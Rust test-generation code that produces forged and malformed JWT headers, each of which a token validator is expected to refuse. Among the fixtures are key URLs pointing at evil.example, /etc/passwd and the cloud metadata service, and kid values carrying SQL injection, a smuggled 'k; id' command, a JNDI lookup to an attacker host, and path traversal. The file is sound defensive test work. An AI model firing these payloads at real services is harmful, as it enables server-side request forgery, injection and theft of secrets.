//! Headers that ask for something: extensions, keys that the token brings along, a kid to look up.

use serde_json::json;

use super::{
    book::{
        Book,
        By::{Standard, Strict},
        Page,
    },
    family::{Family, claims},
    key::encode,
    object::{Object, quoted},
};

pub fn write(book: &mut Book, family: &Family) {
    critical(book.page(family.profile, "crit"), family);
    embedded(book.page(family.profile, "embedded-key"), family);
    named(book.page(family.profile, "kid"), family);
    nested(book.page(family.profile, "nested"), family);
    twice(book.page(family.profile, "header-twice"), family);
}

fn critical(mut page: Page<'_>, family: &Family) {
    let with = |crit: &str| family.header().set("crit", crit);
    for (id, crit) in [
        ("unknown", "[\"x-unknown\"]"),
        ("of-exp-in-the-header", "[\"exp\"]"),
        ("of-alg", "[\"alg\"]"),
        ("unknown-and-not-there", "[\"nowhere\"]"),
        ("empty", "[]"),
        ("text", "\"exp\""),
        ("null", "null"),
        ("number", "1"),
        ("object", "{\"exp\":true}"),
        ("array-of-numbers", "[1]"),
        ("array-of-null", "[null]"),
        ("empty-name", "[\"\"]"),
        ("twice", "[\"x-unknown\",\"x-unknown\"]"),
        ("false", "false"),
    ] {
        let header = with(crit).set("x-unknown", "1");
        page.refuse(
            Standard,
            id,
            "what is critical and not understood is refused (RFC 7515 §4.1.11)",
            family.under(&header),
        );
    }
    let exp = with("[\"exp\"]").set("exp", "1000000000");
    page.refuse(Standard, "exp-over", "an exp in the header that counts, and is over", family.under(&exp));
    let b64 = family.header().set("b64", "false");
    page.refuse(Strict, "b64-without-crit", "b64 is not done here", family.under(&b64));
    page.refuse(
        Strict,
        "b64-true",
        "b64 is not done here",
        family.under(&with("[\"b64\"]").set("b64", "true")),
    );
    page.refuse(
        Standard,
        "b64-of-an-encoded-payload",
        "the payload is then no base64url, and no JSON (RFC 7797 §3)",
        family.under(&b64.clone().set("crit", "[\"b64\"]")),
    );
    let header = encode(b64.set("crit", "[\"b64\"]").text());
    page.refuse(
        Standard,
        "b64-of-a-plain-payload",
        "a payload with dots cannot stand in a compact token (RFC 7797 §5.2)",
        family.sign_message(&format!("{header}.{}", claims().text())),
    );
}

fn embedded(mut page: Page<'_>, family: &Family) {
    let mut jwk = family.stranger.jwk.clone();
    let forged = |header: &Object| {
        let message = format!("{}.{}", encode(header.text()), encode(claims().text()));
        format!("{message}.{}", encode(family.stranger.sign(family.alg, message.as_bytes())))
    };
    let certificate = format!(
        "[{}]",
        quoted(&base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &family.stranger.der))
    );
    for (id, name, value) in [
        ("jwk", "jwk", jwk.to_string()),
        ("jku", "jku", "\"https://evil.example/jwks.json\"".to_owned()),
        ("jku-on-the-issuers-host", "jku", "\"https://id.example@evil.example/jwks.json\"".to_owned()),
        ("jku-of-a-file", "jku", "\"file:///etc/passwd\"".to_owned()),
        ("jku-of-the-metadata-service", "jku", "\"http://169.254.169.254/latest\"".to_owned()),
        ("x5u", "x5u", "\"https://evil.example/certificate.pem\"".to_owned()),
        ("x5c", "x5c", certificate.clone()),
        ("x5c-empty", "x5c", "[]".to_owned()),
        ("jwk-as-a-text", "jwk", quoted(&jwk.to_string())),
        ("x5t", "x5t", "\"c3RyYW5nZXI\"".to_owned()),
    ] {
        for (suffix, header) in [("", family.header()), ("-without-kid", family.header().without("kid"))] {
            let token = forged(&header.set(name, &value));
            page.refuse(
                Standard,
                &format!("{id}{suffix}"),
                "signed by a key that the token brings along (CVE-2018-0114)",
                token,
            );
        }
    }
    jwk["kid"] = json!("stranger");
    page.refuse(
        Standard,
        "jwk-with-its-own-kid",
        "signed by a key that the token brings along",
        forged(&family.header().set("kid", "\"stranger\"").set("jwk", &jwk.to_string())),
    );
    let own = family.key.jwk.to_string();
    for (id, name, value) in [
        ("own-jwk", "jwk", own.as_str()),
        ("own-jku", "jku", "\"https://id.example/jwks.json\""),
        ("own-x5u", "x5u", "\"https://id.example/certificate.pem\""),
        ("own-x5c", "x5c", &certificate),
        ("jwk-null", "jwk", "null"),
        ("zip", "zip", "\"DEF\""),
        ("enc", "enc", "\"A256GCM\""),
        ("epk", "epk", "{}"),
    ] {
        page.refuse(
            Strict,
            id,
            "rightly signed; but a header that asks for this is never obeyed, nor ignored",
            family.under(&family.header().set(name, value)),
        );
    }
}

fn named(mut page: Page<'_>, family: &Family) {
    for (id, kid) in [
        ("unknown", "other".to_owned()),
        ("empty", String::new()),
        ("upper-case", "K".to_owned()),
        ("longer", "k2".to_owned()),
        ("space-behind", "k ".to_owned()),
        ("nul-behind", "k\0".to_owned()),
        ("path", "../../../../../../dev/null".to_owned()),
        ("path-of-a-key", "/proc/sys/kernel/randomize_va_space".to_owned()),
        ("sql", "x' UNION SELECT 'secret".to_owned()),
        ("sql-or", "k' OR '1'='1".to_owned()),
        ("command", "k; id".to_owned()),
        ("template", "${jndi:ldap://evil.example/a}".to_owned()),
        ("address", "https://evil.example/key".to_owned()),
        ("proto", "__proto__".to_owned()),
        ("constructor", "constructor".to_owned()),
        ("zero", "0".to_owned()),
        ("huge", "k".repeat(4_000)),
    ] {
        page.refuse(
            Strict,
            id,
            "no key of the issuer has this name",
            family.under(&family.header().set("kid", &quoted(&kid))),
        );
    }
    for (id, value) in
        [("number", "0"), ("null", "null"), ("true", "true"), ("array", "[\"k\"]"), ("object", "{\"k\":1}")]
    {
        page.refuse(
            Standard,
            id,
            "kid must be a text (RFC 7515 §4.1.4)",
            family.under(&family.header().set("kid", value)),
        );
    }
}

fn nested(mut page: Page<'_>, family: &Family) {
    let inner = family.of(&claims());
    for (id, cty) in
        [("jwt", "\"JWT\""), ("jwt-lower-case", "\"jwt\""), ("application-jwt", "\"application/jwt\"")]
    {
        page.refuse(
            Strict,
            id,
            "a token in a token is not opened here",
            family.sign_text(family.header().set("cty", cty).text(), &inner),
        );
    }
    page.refuse(
        Standard,
        "without-cty",
        "the payload is no JSON",
        family.sign_text(family.header().text(), &inner),
    );
    page.refuse(
        Standard,
        "in-quotes",
        "the payload is no JSON object",
        family.sign_text(family.header().text(), quoted(&inner)),
    );
    let encrypted =
        Object::of(&[("alg", "\"dir\""), ("enc", "\"A128GCM\""), ("typ", "\"at+jwt\""), ("kid", "\"k\"")]);
    page.refuse(
        Standard,
        "jwe",
        "an encrypted token has no signature",
        format!("{}..AAAAAAAAAAAAAAAA.AAAA.AAAAAAAAAAAAAAAAAAAAAA", encode(encrypted.text())),
    );
    page.refuse(Standard, "jwe-header-in-three-parts", "dir is no signature", family.under(&encrypted));
}

fn twice(mut page: Page<'_>, family: &Family) {
    let alg = quoted(family.alg);
    for (id, header) in [
        ("alg-none-then-good", family.header().after("alg", "\"none\"")),
        ("alg-hs256-then-good", family.header().after("alg", "\"HS256\"")),
        ("alg-same", family.header().then("alg", &alg)),
        ("alg-escaped", family.header().after(r"\u0061lg", "\"none\"")),
        ("typ", family.header().after("typ", "\"JWT\"")),
        ("kid", family.header().after("kid", "\"other\"")),
        ("unknown", family.header().then("x", "1").then("x", "1")),
        ("inside-another", family.header().then("x", "{\"a\":1,\"a\":1}")),
    ] {
        page.refuse(Strict, id, "a name stands twice in the header (RFC 7515 §4)", family.under(&header));
    }
    page.refuse(
        Standard,
        "alg-good-then-none",
        "the last of two must count, or none",
        family.under(&family.header().then("alg", "\"none\"")),
    );
    page.refuse(
        Standard,
        "alg-good-then-hs256",
        "the last of two must count, or none",
        family.under(&family.header().then("alg", "\"HS256\"")),
    );
}
